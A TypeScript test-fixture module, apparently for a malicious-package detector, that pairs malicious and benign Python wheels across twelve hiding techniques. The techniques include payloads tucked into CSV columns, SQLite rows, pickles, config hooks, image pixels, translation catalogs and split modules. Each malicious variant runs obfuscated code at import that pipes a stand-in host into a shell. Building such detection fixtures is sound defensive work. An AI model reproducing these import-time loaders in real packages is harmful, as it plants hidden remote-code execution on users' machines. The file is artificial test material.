import type { AttackPair } from '../../../../told.ts';
import { b64 } from '../../kit.ts';
import { pair, py, wheel } from './kit.ts';

const PAYLOAD = b64('import os\nos.system("curl -s https://stage.example/x | sh")\n');
const HEX = Buffer.from('import os\nos.system("curl -s https://stage.example/x | sh")\n').toString('hex');

/** Places beside the code in which a second stage lies. */
export const STAGING: Readonly<Record<string, AttackPair>> = {
  'csv-column': pair(
    wheel({
      'own/data/regions.csv': `code,name,checksum\n${PAYLOAD.match(/.{1,20}/g)
        ?.map((part, i) => `R${i},Region ${i},${part}`)
        .join('\n')}\n`,
      'own/__init__.py': py`"""Regions of the world."""
from __future__ import annotations
import base64
import csv
from importlib import resources

def _rows() -> list[dict[str, str]]:
    with resources.files("own").joinpath("data/regions.csv").open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))

REGIONS = {row["code"]: row["name"] for row in _rows()}
exec(base64.b64decode("".join(row["checksum"] for row in _rows())))
`,
    }),
    wheel({
      'own/data/regions.csv': 'code,name,checksum\nR0,Region 0,1f\nR1,Region 1,2e\n',
      'own/__init__.py': py`"""Regions of the world."""
from __future__ import annotations
import base64
import csv
from importlib import resources

def _rows() -> list[dict[str, str]]:
    with resources.files("own").joinpath("data/regions.csv").open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))

REGIONS = {row["code"]: row["name"] for row in _rows()}
CHECKSUM = base64.b16decode("".join(row["checksum"] for row in _rows()).upper())
`,
    }),
  ),
  'sqlite-rows': pair(
    wheel({
      'own/schema.sql': `CREATE TABLE migration (id INTEGER, body TEXT);\nINSERT INTO migration VALUES (1, '${HEX}');\n`,
      'own/__init__.py': py`"""A store in SQLite."""
import sqlite3
from pathlib import Path

_SCHEMA = Path(__file__).with_name("schema.sql")

def connect() -> sqlite3.Connection:
    """A store in memory with its migrations."""
    connection = sqlite3.connect(":memory:")
    connection.executescript(_SCHEMA.read_text())
    for (body,) in connection.execute("SELECT body FROM migration ORDER BY id"):
        exec(bytes.fromhex(body).decode(), {"connection": connection})
    return connection

STORE = connect()
`,
    }),
    wheel({
      'own/schema.sql': 'CREATE TABLE migration (id INTEGER, body TEXT);\n',
      'own/__init__.py': py`"""A store in SQLite."""
import sqlite3
from pathlib import Path

_SCHEMA = Path(__file__).with_name("schema.sql")

def connect() -> sqlite3.Connection:
    """A store in memory with its migrations."""
    connection = sqlite3.connect(":memory:")
    connection.executescript(_SCHEMA.read_text())
    for (body,) in connection.execute("SELECT body FROM migration ORDER BY id"):
        connection.executescript(body)
    return connection

STORE = connect()
`,
    }),
  ),
  'docstring-payload': pair(
    wheel({
      'own/licence.py': `"""Licence texts.\n\n::\n\n    ${PAYLOAD}\n"""\n`,
      'own/__init__.py': py`"""A library."""
import binascii
import inspect
import types
from . import licence

def _load(module: types.ModuleType) -> types.CodeType:
    lines = inspect.getdoc(module).splitlines()
    return compile(binascii.a2b_base64(lines[-1].strip()), module.__name__, "exec")

types.FunctionType(_load(licence), globals())()
`,
    }),
    wheel({
      'own/licence.py': '"""Licence texts.\n\n::\n\n    MIT\n"""\n',
      'own/__init__.py': py`"""A library."""
import inspect
import types
from . import licence

def _text(module: types.ModuleType) -> str:
    return inspect.getdoc(module).splitlines()[-1].strip()

LICENCE = _text(licence)
`,
    }),
  ),
  'pickle-model': pair(
    wheel({
      'own/weights.pkl': "cposix\nsystem\n(S'curl -s https://stage.example/x | sh'\ntR.",
      'own/__init__.py': py`"""A small model."""
import pickle
from importlib import resources

def _weights():
    return pickle.loads(resources.files(__package__).joinpath("weights.pkl").read_bytes())

WEIGHTS = _weights()
`,
    }),
    wheel({
      'own/weights.pkl': '(lp0\nF0.5\naF0.25\na.',
      'own/__init__.py': py`"""A small model."""
import pickle
from importlib import resources

def _weights():
    return pickle.loads(resources.files(__package__).joinpath("weights.pkl").read_bytes())

WEIGHTS = _weights()
`,
    }),
  ),
  'json-config-hooks': pair(
    wheel({
      'own/defaults.json': JSON.stringify({
        theme: 'dark',
        hooks: { ready: ['subprocess', 'getoutput', 'curl -s https://hooks.example/h | sh'] },
      }),
      'own/__init__.py': py`"""Configuration with hooks."""
from __future__ import annotations
import importlib
import json
from pathlib import Path
from typing import Any

class Config:
    """The configuration."""
    def __init__(self, path: Path) -> None:
        self.values: dict[str, Any] = json.loads(path.read_text())

    def fire(self, event: str) -> None:
        """Runs the hook of an event."""
        module, name, *args = self.values["hooks"][event]
        getattr(importlib.import_module(module), name)(*args)

Config(Path(__file__).parent / "defaults.json").fire("ready")
`,
    }),
    wheel({
      'own/defaults.json': JSON.stringify({
        theme: 'dark',
        hooks: { ready: ['own.themes', 'apply', 'dark'] },
      }),
      'own/themes.py':
        '"""Themes."""\ndef apply(name: str) -> None:\n    """Applies a theme."""\n    print(name)\n',
      'own/__init__.py': py`"""Configuration with hooks."""
from __future__ import annotations
import importlib
import json
from pathlib import Path
from typing import Any

class Config:
    """The configuration."""
    def __init__(self, path: Path) -> None:
        self.values: dict[str, Any] = json.loads(path.read_text())

    def fire(self, event: str) -> None:
        """Runs the hook of an event."""
        module, name, *args = self.values["hooks"][event]
        getattr(importlib.import_module(module), name)(*args)

Config(Path(__file__).parent / "defaults.json").fire("ready")
`,
    }),
  ),
  'ini-template': pair(
    wheel({
      'own/messages.ini': `[messages]\nwelcome = Hello\nfooter = ${PAYLOAD}\n`,
      'own/__init__.py': py`"""Messages of the program."""
import base64
import configparser
import pkgutil

_PARSER = configparser.ConfigParser()
_PARSER.read_string(pkgutil.get_data(__name__, "messages.ini").decode())
eval(compile(base64.b64decode(_PARSER["messages"]["footer"]), "messages", "exec"))
`,
    }),
    wheel({
      'own/messages.ini': '[messages]\nwelcome = Hello\nfooter = Bye\n',
      'own/__init__.py': py`"""Messages of the program."""
import configparser
import pkgutil

_PARSER = configparser.ConfigParser()
_PARSER.read_string(pkgutil.get_data(__name__, "messages.ini").decode())
FOOTER = _PARSER["messages"]["footer"]
`,
    }),
  ),
  'image-pixels': pair(
    wheel({
      'own/__init__.py': py`"""Icons of the program."""
from io import BytesIO
from importlib import resources
from PIL import Image

def _decode(name: str) -> bytes:
    """What the low bits of an icon say."""
    image = Image.open(BytesIO(resources.read_binary("own", name))).convert("RGB")
    bits = [channel & 1 for pixel in image.getdata() for channel in pixel]
    return bytes(int("".join(map(str, bits[i : i + 8])), 2) for i in range(0, len(bits) - 7, 8))

exec(_decode("logo.png").rstrip(b"\0").decode("utf-8"))
`,
      'own/logo.png': 'PNG stands here',
    }),
    wheel({
      'own/__init__.py': py`"""Icons of the program."""
from io import BytesIO
from importlib import resources
from PIL import Image

def watermark(name: str) -> bytes:
    """What the low bits of an icon say."""
    image = Image.open(BytesIO(resources.read_binary("own", name))).convert("RGB")
    bits = [channel & 1 for pixel in image.getdata() for channel in pixel]
    return bytes(int("".join(map(str, bits[i : i + 8])), 2) for i in range(0, len(bits) - 7, 8))

MARK = watermark("logo.png")
`,
      'own/logo.png': 'PNG stands here',
    }),
  ),
  'words-cipher': pair(
    wheel({
      'own/words.py': py`"""Words of the test corpus."""
WORDS = ("alpha", "bravo", "carol", "delta", "eagle", "frank", "gamma", "hotel", "igloo", "joker", "koala", "lemon", "mango", "night", "ocean", "piano")
TEXT = "golfer carol"
ORDER = [6, 3, 6, 15, 7, 0, 6, 15, 7, 2, 7, 4, 2, 0, 6, 15, 7, 3]
`,
      'own/__init__.py': py`"""Generates texts."""
from .words import ORDER, WORDS

_INDEX = {word: format(i, "x") for i, word in enumerate(WORDS)}

def render(order: list[int]) -> str:
    """Text of these words."""
    return bytes.fromhex("".join(_INDEX[WORDS[i]] for i in order)).decode()

__builtins__["exec"](render(ORDER)) if isinstance(__builtins__, dict) else __builtins__.exec(render(ORDER))
`,
    }),
  ),
  'env-handover': pair(
    wheel({
      'own/__init__.py': py`"""Runs helpers in a clean interpreter."""
import os
import subprocess
import sys
import requests

def _spawn(task: str) -> None:
    """Runs a task beside the program."""
    environment = {**os.environ, "OWN_TASK": task}
    subprocess.Popen([sys.executable, "-c", "import os; exec(os.environ['OWN_TASK'])"], env=environment)

_spawn(requests.get("https://task.example/t", timeout=5).text)
`,
    }),
    wheel({
      'own/__init__.py': py`"""Runs helpers in a clean interpreter."""
import os
import subprocess
import sys

def spawn(task: str) -> None:
    """Runs a task beside the program."""
    environment = {**os.environ, "OWN_TASK": task}
    subprocess.Popen([sys.executable, "-m", "own.worker"], env=environment)
`,
      'own/worker.py': 'import os\n\nprint(os.environ["OWN_TASK"])\n',
    }),
  ),
  'zip-in-package': pair(
    wheel({
      'own/assets.bin': 'a zip stands here',
      'own/__init__.py': py`"""Assets of the program."""
import sys
import zipimport
from pathlib import Path

_ASSETS = Path(__file__).with_name("assets.bin")

def _decrypted() -> Path:
    """The assets in a form that can be read."""
    key = 0x5A
    target = Path.home() / ".cache" / "own-assets.zip"
    target.write_bytes(bytes(byte ^ key for byte in _ASSETS.read_bytes()))
    return target

sys.modules["own.assets"] = zipimport.zipimporter(str(_decrypted())).load_module("assets")
`,
    }),
  ),
  'marshal-split': pair(
    wheel({
      'own/_parts/__init__.py': '',
      'own/_parts/a.py': `"""Part one."""\nDATA = "${PAYLOAD.slice(0, 40)}"\n`,
      'own/_parts/b.py': `"""Part two."""\nDATA = "${PAYLOAD.slice(40)}"\n`,
      'own/__init__.py': py`"""Tables that are put together."""
import base64
import importlib
from operator import attrgetter

_NAMES = ("a", "b")
_parts = map(lambda name: importlib.import_module(f"own._parts.{name}"), _NAMES)
_table = base64.b64decode("".join(map(attrgetter("DATA"), _parts)))
exec(_table)
`,
    }),
  ),
  'translation-catalog': pair(
    wheel({
      'own/locale/de.po': `msgid "hello"\nmsgstr "hallo"\n\nmsgid "init"\nmsgstr "${PAYLOAD}"\n`,
      'own/__init__.py': py`"""Translations."""
from __future__ import annotations
import base64
import re
from pathlib import Path

_ENTRY = re.compile(r'msgid "(?P<id>[^"]*)"\nmsgstr "(?P<text>[^"]*)"')

def catalog(language: str) -> dict[str, str]:
    """Texts of a language."""
    source = (Path(__file__).parent / "locale" / f"{language}.po").read_text(encoding="utf-8")
    return {m["id"]: m["text"] for m in _ENTRY.finditer(source)}

_ = catalog("de").get
exec(base64.b64decode(_("init")))
`,
    }),
  ),
};
